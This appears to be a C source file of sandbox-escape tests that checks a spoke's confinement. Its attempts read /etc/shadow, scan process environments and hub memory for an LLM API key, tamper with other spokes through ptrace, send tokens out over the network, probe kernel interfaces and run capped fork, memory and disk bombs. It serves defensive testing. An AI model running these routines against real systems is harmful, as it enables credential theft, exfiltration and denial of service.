/* The escape matrix's attempts (see escape_attempts.h). Where the case studies'
 * attack code (spokes/attack/) already does the job it is called as it is; the
 * kernel-interface probes are tests/nsjail/probes.c's, shared with the nsjail-lite
 * hostile program. What is new here is aimed at the hub and the host: reading the
 * LLM key from the hub's environment and memory, files and processes the script
 * owns, and the network paths around netproxy.
 *
 * Nothing here may hurt the machine where nothing stops it (none mode runs the spoke
 * as root without any restriction): files are only the script's own, processes only
 * the pid the script names or spokes of the same user data directory, mounts only
 * inside this spoke's data directory (and undone at once), traffic only to the
 * addresses in the target, kernel calls only in forms that change nothing
 * (finit_module on a closed descriptor, a bpf map, an unshare in a child that exits),
 * and the bombs stop at their cap. */
#include "escape_attempts.h"
#include "spokes/attack/internal.h"
#include "tests/nsjail/probes.h"
#include "util.h"

#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SHOW_MAX 160                /* bytes of a stolen value put in the outcome */
#define SCAN_REGION_MAX (64u << 20) /* memory scan: largest mapping read */
#define SCAN_TOTAL_MAX (256u << 20) /* memory scan: bytes read per process at most */
#define ANCESTORS_MAX 6
#define KEY_HEX_MIN 16 /* what follows a secret value's prefix */

static const char *tstr(const struct escape_ctx *c, const char *key)
{
    const char *s = json_string_value(json_object_get(c->target, key));
    return s && *s ? s : NULL;
}

static long tint(const struct escape_ctx *c, const char *key)
{
    return (long)json_integer_value(json_object_get(c->target, key));
}

static const char *need(const struct escape_ctx *c, const char *key)
{
    const char *s = tstr(c, key);
    if (!s)
        probe_report("error:no target.%s", key);
    return s;
}

/* A stolen value, shortened and on one line, for the outcome string. */
static void show(char *out, size_t outlen, const char *data, size_t len)
{
    size_t n = 0;
    for (size_t i = 0; i < len && n + 1 < outlen && n < SHOW_MAX; i++)
        out[n++] = isprint((unsigned char)data[i]) ? data[i] : '.';
    out[n] = '\0';
}

/* spokes/attack's report -> the outcome string. */
static _Noreturn void report_attack(json_t *report)
{
    const char *result = json_string_value(json_object_get(report, "result"));
    const char *detail = json_string_value(json_object_get(report, "detail"));
    const char *err = json_string_value(json_object_get(report, "errno"));
    if (result && strcmp(result, "done") == 0)
        probe_report("ok:%s", detail ? detail : "");
    if (err)
        probe_report("errno:%s:%s", err, detail ? detail : "");
    probe_report("blocked:%s", detail ? detail : "no result");
}

static struct orders orders_for(const struct escape_ctx *c, const char *attempt)
{
    return (struct orders){
        .attempt = attempt,
        .data_dir = c->data_dir,
        .victim_app = tstr(c, "app"),
        .victim_rel = tstr(c, "rel"),
        .victim_path = tstr(c, "path"),
        .content = tstr(c, "content"),
        .payload = (char *)tstr(c, "token"),
        .collector_addr = tstr(c, "addr"),
        .collector_domain = tstr(c, "domain"),
        .collector_port = (int)tint(c, "port"),
        .redis_socket = tstr(c, "socket"),
        .redis_key = tstr(c, "key"),
        .cap = tint(c, "cap"),
        .limit = tint(c, "limit"),
    };
}

static _Noreturn void run_attack(const struct escape_ctx *c, const char *name, attempt_fn fn)
{
    struct orders o = orders_for(c, name);
    json_t *report = json_object();
    fn(&o, report);
    report_attack(report);
}

/* ---- host files ---- */

static _Noreturn void read_path(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        probe_report_errno();
    char buf[SHOW_MAX];
    ssize_t n = read_full(fd, buf, sizeof(buf));
    close(fd);
    if (n < 0)
        probe_report_errno();
    char shown[SHOW_MAX + 1];
    show(shown, sizeof(shown), buf, (size_t)n);
    probe_report("ok:%s", shown);
}

static void a_read_host_file(const struct escape_ctx *c)
{
    read_path(need(c, "path"));
}

/* Only the size leaves the spoke: the script compares it with the file's. */
static void a_read_shadow(const struct escape_ctx *c)
{
    (void)c;
    int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        probe_report_errno();
    char buf[4096];
    size_t total = 0;
    ssize_t n;
    while ((n = read(fd, buf, sizeof(buf))) > 0)
        total += (size_t)n;
    probe_report("ok:read %zu bytes", total);
}

static void a_write_host_file(const struct escape_ctx *c)
{
    const char *path = need(c, "path"), *content = need(c, "content");
    int fd = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW | O_CLOEXEC);
    if (fd < 0)
        probe_report_errno();
    probe_outcome(write_all(fd, content, strlen(content)));
}

/* ---- other spokes ---- */

static void a_spoke_data_read(const struct escape_ctx *c)
{
    struct orders o = orders_for(c, "read-file");
    json_t *report = json_object();
    size_t len = 0;
    char *data = steal_victim_file(&o, report, &len);
    if (!data) {
        int e = errno;
        const char *name = strerrorname_np(e);
        char *tries = json_dumps(json_object_get(report, "tries"), JSON_COMPACT);
        probe_report("errno:%s:%s", name ? name : "?", tries ? tries : "");
    }
    char shown[SHOW_MAX + 1];
    show(shown, sizeof(shown), data, len);
    probe_report("ok:%s", shown);
}

static void a_spoke_data_write(const struct escape_ctx *c)
{
    run_attack(c, "overwrite-file", attack_overwrite_file);
}

static void a_spoke_ptrace(const struct escape_ctx *c)
{
    run_attack(c, "ptrace-poke", attack_ptrace_poke);
}

static void a_spoke_procmem(const struct escape_ctx *c)
{
    run_attack(c, "procmem-poke", attack_procmem_poke);
}

/* ---- host processes ---- */

static void a_kill_process(const struct escape_ctx *c)
{
    long pid = tint(c, "pid");
    if (pid <= 1)
        probe_report("error:no target.pid");
    probe_outcome(kill((pid_t)pid, SIGKILL));
}

/* ---- the hub's secrets ---- */

/* starts with prefix and goes on with at least KEY_HEX_MIN hex digits */
static bool looks_like_key(const char *v, const char *prefix)
{
    size_t pl = strlen(prefix), n = 0;
    if (strncmp(v, prefix, pl) != 0)
        return false;
    while (isxdigit((unsigned char)v[pl + n]))
        n++;
    return n >= KEY_HEX_MIN;
}

/* name=KEY in every /proc/PID/environ this process can read. */
static void a_llm_key_environ(const struct escape_ctx *c)
{
    const char *name = need(c, "name"), *prefix = need(c, "prefix");
    size_t nl = strlen(name);
    char scrubbed[80] = "";
    DIR *d = opendir("/proc");
    if (!d)
        probe_report_errno();
    int seen = 0, denied = 0;
    struct dirent *e;
    static char buf[65536];
    while ((e = readdir(d)) != NULL) {
        if (!isdigit((unsigned char)e->d_name[0]))
            continue;
        char path[300];
        snprintf(path, sizeof(path), "/proc/%s/environ", e->d_name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read_full(fd, buf, sizeof(buf) - 1);
        if (fd >= 0)
            close(fd);
        if (n < 0) {
            denied++;
            continue;
        }
        seen++;
        buf[n] = '\0';
        for (char *p = buf; p < buf + n; p += strlen(p) + 1) {
            if (strncmp(p, name, nl) != 0 || p[nl] != '=')
                continue;
            if (!looks_like_key(p + nl + 1, prefix)) {
                snprintf(scrubbed, sizeof(scrubbed), " (set in /proc/%.16s/environ, not to a key)",
                         e->d_name);
                continue;
            }
            char shown[SHOW_MAX + 1];
            show(shown, sizeof(shown), p + nl + 1, strlen(p + nl + 1));
            probe_report("ok:%s in /proc/%s/environ", shown, e->d_name);
        }
    }
    closedir(d);
    probe_report("blocked:no key in %d readable environments (%d unreadable)%s", seen, denied,
                 scrubbed);
}

static pid_t parent_of(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    const char *rp = strrchr(buf, ')'); /* the command name may contain anything */
    int ppid = 0;
    if (!rp || sscanf(rp + 1, " %*c %d", &ppid) != 1)
        return 0;
    return (pid_t)ppid;
}

static bool exe_is_hub(pid_t pid)
{
    char path[64], exe[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    ssize_t n = readlink(path, exe, sizeof(exe) - 1);
    if (n <= 0)
        return false;
    exe[n] = '\0';
    const char *base = strrchr(exe, '/');
    return strcmp(base ? base + 1 : exe, "hub") == 0;
}

/* Searches pid's readable mappings for prefix followed by at least KEY_HEX_MIN hex
 * digits (a value, not a mention of its prefix). 1 found (into out), 0 not, -1 when
 * nothing could be read (errno). *bytes counts what was read. */
static int scan_memory(pid_t pid, const char *prefix, char *out, size_t outlen, size_t *bytes)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
    FILE *maps = fopen(path, "re");
    if (!maps)
        return -1;
    snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        fclose(maps);
        errno = e;
        return -1;
    }
    size_t plen = strlen(prefix), budget = SCAN_TOTAL_MAX, chunk = 1u << 20;
    char *buf = xmalloc(chunk);
    char line[PATH_MAX + 128];
    int found = 0, err = 0;
    *bytes = 0;
    while (!found && budget > 0 && fgets(line, sizeof(line), maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' ||
            hi - lo > SCAN_REGION_MAX || strstr(line, "[vvar") || strstr(line, "[vsyscall"))
            continue;
        for (unsigned long a = lo; a < hi && budget > 0 && !found;) {
            size_t len = hi - a < chunk ? hi - a : chunk;
            ssize_t n = pread(fd, buf, len, (off_t)a);
            if (n <= 0) {
                err = n < 0 ? errno : EIO;
                break;
            }
            *bytes += (size_t)n;
            budget -= (size_t)n < budget ? (size_t)n : budget;
            for (char *m = buf; !found && (m = memmem(m, (size_t)(buf + n - m), prefix, plen));
                 m++) {
                size_t vl = plen;
                while (m + vl < buf + n && isxdigit((unsigned char)m[vl]))
                    vl++;
                if (vl - plen >= KEY_HEX_MIN) {
                    show(out, outlen, m, vl);
                    found = 1;
                }
            }
            /* overlap so that a value across two chunks is still seen */
            a += (size_t)n > plen ? (size_t)n - plen : (size_t)n;
        }
    }
    free(buf);
    close(fd);
    fclose(maps);
    if (!found && *bytes == 0) {
        errno = err ? err : EIO;
        return -1;
    }
    return found;
}

/* A value starting with target.prefix in the memory of the spoke's parent (whatever
 * started it: the hub itself, or its jail monitor or the jail's init, which are
 * forked copies of the hub) and of any ancestor that is the hub. */
static void scan_ancestors(const struct escape_ctx *c)
{
    const char *prefix = need(c, "prefix");
    int scanned = 0, err = 0;
    size_t total = 0;
    pid_t pid = getppid(); /* the spoke: this attempt runs in a child of it */
    for (int depth = 0; depth < ANCESTORS_MAX; depth++) {
        pid = parent_of(pid);
        if (pid <= 0)
            break;
        if (depth == 0 || exe_is_hub(pid)) {
            char value[SHOW_MAX + 1];
            size_t bytes = 0;
            int rc = scan_memory(pid, prefix, value, sizeof(value), &bytes);
            if (rc > 0)
                probe_report("ok:%s in the memory of pid %d", value, (int)pid);
            if (rc < 0) {
                err = errno;
            } else {
                scanned++;
                total += bytes;
            }
        }
        if (pid == 1)
            break;
    }
    if (!scanned) {
        const char *name = strerrorname_np(err);
        probe_report("errno:%s:/proc/PARENT/mem", name ? name : "?");
    }
    probe_report("blocked:not in %zu bytes of the memory of %d ancestor(s)", total, scanned);
}

/* The hub holds the key to talk to the LLM. */
static void a_llm_key_memory(const struct escape_ctx *c)
{
    scan_ancestors(c);
}

/* What passed through the hub before this spoke started (another app's data) may
 * still be in the hub's heap, and in every forked copy of it. */
static void a_hub_memory_data(const struct escape_ctx *c)
{
    scan_ancestors(c);
}

static void a_redis_read(const struct escape_ctx *c)
{
    run_attack(c, "redis-read", attack_redis_read);
}

/* ---- network ---- */

static void a_tcp_direct(const struct escape_ctx *c)
{
    run_attack(c, "exfil-direct", attack_exfil_direct);
}

static void a_udp_direct(const struct escape_ctx *c)
{
    const char *addr = need(c, "addr"), *token = need(c, "token");
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)tint(c, "port"))};
    if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
        probe_report("error:bad target.addr");
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        probe_report_errno();
    probe_outcome(sendto(s, token, strlen(token), 0, (struct sockaddr *)&sa, sizeof(sa)));
}

static void a_abstract_unix(const struct escape_ctx *c)
{
    const char *name = need(c, "name"), *token = need(c, "token");
    char at[108];
    snprintf(at, sizeof(at), "@%s", name);
    int s = probe_connect_unix(at);
    if (s < 0)
        probe_report_errno();
    probe_outcome(write_all(s, token, strlen(token)));
}

static void a_proxy_unlisted(const struct escape_ctx *c)
{
    run_attack(c, "exfil-proxy", attack_exfil_proxy); /* no proxy: goes direct */
}

/* Only meaningful through a proxy: without one the direct path is tcp_loopback's. */
static void a_proxy_only(const struct escape_ctx *c)
{
    if (!getenv("HTTPS_PROXY"))
        probe_report("skip:no HTTPS_PROXY in this mode (the direct path is another attempt)");
    run_attack(c, "exfil-proxy", attack_exfil_proxy);
}

/* ---- kernel interfaces and privileges ---- */

static void a_mount(const struct escape_ctx *c)
{
    char *dir = xasprintf("%s/mnt", c->data_dir);
    mkdir(dir, 0700);
    if (mount("itest-matrix", dir, "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=64k") < 0)
        probe_report_errno();
    umount2(dir, MNT_DETACH);
    probe_report("ok:mounted a tmpfs on %s (and unmounted it)", dir);
}

static void a_unshare_user(const struct escape_ctx *c)
{
    (void)c;
    probe_unshare_user();
}

static void a_setns(const struct escape_ctx *c)
{
    (void)c;
    probe_setns();
}

static void a_kernel_module(const struct escape_ctx *c)
{
    (void)c;
    probe_finit_module();
}

static void a_bpf(const struct escape_ctx *c)
{
    (void)c;
    probe_bpf();
}

static void a_perf_event_open(const struct escape_ctx *c)
{
    (void)c;
    probe_perf_event_open();
}

static void a_keyctl(const struct escape_ctx *c)
{
    (void)c;
    probe_keyctl();
}

static void a_proc_sys_write(const struct escape_ctx *c)
{
    (void)c;
    probe_open_wr("/proc/sys/kernel/core_pattern"); /* opened, never written */
}

static void a_dev_disk(const struct escape_ctx *c)
{
    (void)c;
    probe_dev_disk();
}

static void a_capabilities(const struct escape_ctx *c)
{
    (void)c;
    probe_caps();
}

/* Runs a setuid-root program (the script's setuid copy of id(1)) and reads the
 * effective uid it ran with. */
static void a_setuid_exec(const struct escape_ctx *c)
{
    const char *path = need(c, "path");
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        probe_report_errno();
    pid_t pid = fork();
    if (pid < 0)
        probe_report_errno();
    if (pid == 0) {
        dup2(p[1], 1);
        execl(path, "id", "-u", (char *)NULL);
        _exit(127);
    }
    close(p[1]);
    char out[32] = "";
    ssize_t n = read_full(p[0], out, sizeof(out) - 1);
    int st = 0;
    waitpid(pid, &st, 0);
    out[n > 0 ? n : 0] = '\0';
    out[strcspn(out, "\n")] = '\0';
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        probe_report("errno:%s:%s exited with status %d", WEXITSTATUS(st) == 127 ? "ENOENT" : "EIO",
                     path, st);
    if (strcmp(out, "0") == 0)
        probe_report("ok:euid 0 in the setuid program (this spoke's euid: %d)", (int)geteuid());
    probe_report("blocked:euid %s in the setuid-root program (this spoke's: %d)", out,
                 (int)geteuid());
}

/* Descriptors beyond stdin/stdout (the hub's socketpair), stderr (the log) and the
 * SDK's own copy of the protocol socket. */
static void a_inherited_fds(const struct escape_ctx *c)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        probe_report_errno();
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (!isdigit((unsigned char)e->d_name[0]))
            continue;
        int fd = atoi(e->d_name);
        if (fd <= 2 || fd == dirfd(d) || fd == probe_pipe_fd() || fd == c->own_fd)
            continue;
        char path[64], link[128] = "";
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = '\0';
        probe_report("ok:descriptor %d is open: %s", fd, link);
    }
    probe_report("blocked:no descriptor beyond 0-2");
}

/* ---- resource exhaustion (capped) ---- */

static void a_fork_bomb(const struct escape_ctx *c)
{
    run_attack(c, "fork-bomb", attack_fork_bomb);
}

static void a_memory_bomb(const struct escape_ctx *c)
{
    run_attack(c, "memory-bomb", attack_memory_bomb);
}

static void a_disk_bomb(const struct escape_ctx *c)
{
    run_attack(c, "disk-bomb", attack_disk_bomb);
}

/* ---- what no rlimit bounds for the spoke as a whole (issue 14): the host sees it ----
 * Each holds what it got for HOLD_MS, so that the script's sampler sees it on the host,
 * and then gives it back itself (an attacker would not; the test must not leak). */
#define HOLD_MS 1000
#define MIB (1024L * 1024L)

static void hold(void)
{
    struct timespec ts = {HOLD_MS / 1000, (HOLD_MS % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

static _Noreturn void report_stopped(int err, const char *what, long got)
{
    const char *name = strerrorname_np(err);
    probe_report("errno:%s:%s after %ld MiB", name ? name : "?", what, got);
}

/* System V segments of 8 MiB, created, touched and detached: no process maps them, so
 * RLIMIT_AS never counted them, and they stay until their ipc namespace ends. */
static void a_shm_detached(const struct escape_ctx *c)
{
    const long seg = 8, cap = tint(c, "cap");
    int ids[256], n = 0, err = 0;
    long got = 0;
    while (got < cap && n < (int)ARRAY_LEN(ids)) {
        int id = shmget(IPC_PRIVATE, (size_t)(seg * MIB), IPC_CREAT | 0600);
        if (id < 0) {
            err = errno;
            break;
        }
        ids[n++] = id;
        char *p = shmat(id, NULL, 0);
        if (p == (void *)-1) {
            err = errno;
            break;
        }
        memset(p, 0x5a, (size_t)(seg * MIB));
        shmdt(p);
        got += seg;
    }
    if (got)
        hold();
    for (int i = 0; i < n; i++)
        shmctl(ids[i], IPC_RMID, NULL);
    if (got < cap)
        report_stopped(err, "shmget/shmat", got);
    probe_report("ok:held %ld MiB of detached System V shared memory", got);
}

/* memfds of 15 MiB (below RLIMIT_FSIZE) written with write(2), never mapped. */
static void a_memfd_written(const struct escape_ctx *c)
{
    static char chunk[1 << 20];
    memset(chunk, 0x5a, sizeof(chunk));
    const long per_fd = 15, cap = tint(c, "cap");
    long got = 0;
    int fd = -1;
    for (; got < cap; got++) {
        if (got % per_fd == 0 && (fd = memfd_create("hold", MFD_CLOEXEC)) < 0)
            report_stopped(errno, "memfd_create", got);
        if (write(fd, chunk, sizeof(chunk)) != (ssize_t)sizeof(chunk))
            report_stopped(errno, "write", got);
    }
    hold();
    probe_report("ok:held %ld MiB in memfds (written, never mapped)", got);
}

/* Files of 15 MiB in /tmp (in namespace mode a tmpfs: memory, not disk). */
static void a_tmpfs_fill(const struct escape_ctx *c)
{
    static char chunk[1 << 20];
    memset(chunk, 0x5a, sizeof(chunk));
    const char *prefix = need(c, "prefix");
    const long per_file = 15, cap = tint(c, "cap");
    long got = 0;
    int files = 0, err = 0;
    char path[PATH_MAX];
    while (got < cap && !err) {
        snprintf(path, sizeof(path), "%s.%d", prefix, files);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (fd < 0) {
            err = errno;
            break;
        }
        files++;
        for (long i = 0; i < per_file && got < cap; i++, got++) {
            if (write(fd, chunk, sizeof(chunk)) != (ssize_t)sizeof(chunk)) {
                err = errno ? errno : ENOSPC;
                break;
            }
        }
        close(fd);
    }
    if (got)
        hold();
    for (int i = 0; i < files; i++) {
        snprintf(path, sizeof(path), "%s.%d", prefix, i);
        unlink(path);
    }
    if (err)
        report_stopped(err, "write to /tmp", got);
    probe_report("ok:held %ld MiB in /tmp", got);
}

/* A crowd of spinning processes that outlives the answer (for spin_ms). The crowd
 * starts together, when the gate pipe closes just before the answer: on a busy host
 * forking them all can take longer than one's spin. */
static void a_fork_crowd(const struct escape_ctx *c)
{
    const long cap = tint(c, "cap"), spin_ms = tint(c, "spin_ms");
    long n = 0;
    int err = 0, gate[2];
    if (pipe2(gate, O_CLOEXEC) != 0)
        probe_report_errno();
    for (; n < cap; n++) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            close(probe_pipe_fd());
            close(gate[1]);
            char byte;
            while (read(gate[0], &byte, 1) < 0 && errno == EINTR) {
            }
            struct timespec t0, now;
            clock_gettime(CLOCK_MONOTONIC, &t0);
            do
                clock_gettime(CLOCK_MONOTONIC, &now);
            while ((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 <
                   spin_ms);
            _exit(0);
        }
    }
    /* The crowd starts here: the time (CLOCK_MONOTONIC, which the script's clock is too)
     * is in the answer, so the script looks for the crowd then, however late the answer
     * reaches it on a busy host. */
    struct timespec released;
    clock_gettime(CLOCK_MONOTONIC, &released);
    close(gate[1]);
    close(gate[0]);
    if (err) {
        const char *name = strerrorname_np(err);
        probe_report("errno:%s:fork after %ld spinners (still spinning; released at %ld.%03ld)",
                     name ? name : "?", n, (long)released.tv_sec, released.tv_nsec / 1000000);
    }
    probe_report("ok:%ld processes spinning after the answer (released at %ld.%03ld)", n,
                 (long)released.tv_sec, released.tv_nsec / 1000000);
}

/* Not a row: keeps the spoke busy while the script measures what an attempt left. */
static void a_wait(const struct escape_ctx *c)
{
    long ms = tint(c, "ms");
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
    probe_report("skip:waited %ld ms", ms);
}

const struct escape_attempt escape_attempts[] = {
    {"read_host_file", a_read_host_file},
    {"read_shadow", a_read_shadow},
    {"read_checkout", a_read_host_file},
    {"write_host_file", a_write_host_file},
    {"spoke_data_read", a_spoke_data_read},
    {"spoke_data_write", a_spoke_data_write},
    {"spoke_ptrace", a_spoke_ptrace},
    {"spoke_procmem", a_spoke_procmem},
    {"kill_process", a_kill_process},
    {"llm_key_environ", a_llm_key_environ},
    {"llm_key_memory", a_llm_key_memory},
    {"hub_memory_data", a_hub_memory_data},
    {"redis_read", a_redis_read},
    {"tcp_loopback", a_tcp_direct},
    {"tcp_remote", a_tcp_direct},
    {"udp_loopback", a_udp_direct},
    {"abstract_unix", a_abstract_unix},
    {"proxy_unlisted", a_proxy_unlisted},
    {"proxy_private", a_proxy_only},
    {"proxy_metadata", a_proxy_only},
    {"mount", a_mount},
    {"unshare_user", a_unshare_user},
    {"setns", a_setns},
    {"kernel_module", a_kernel_module},
    {"bpf", a_bpf},
    {"perf_event_open", a_perf_event_open},
    {"keyctl", a_keyctl},
    {"proc_sys_write", a_proc_sys_write},
    {"dev_disk", a_dev_disk},
    {"capabilities", a_capabilities},
    {"setuid_exec", a_setuid_exec},
    {"inherited_fds", a_inherited_fds},
    {"fork_bomb", a_fork_bomb},
    {"memory_bomb", a_memory_bomb},
    {"disk_bomb", a_disk_bomb},
    {"shm_detached", a_shm_detached},
    {"memfd_written", a_memfd_written},
    {"tmpfs_fill", a_tmpfs_fill},
    {"fork_crowd", a_fork_crowd},
    {"wait", a_wait},
};
const size_t escape_attempt_count = ARRAY_LEN(escape_attempts);
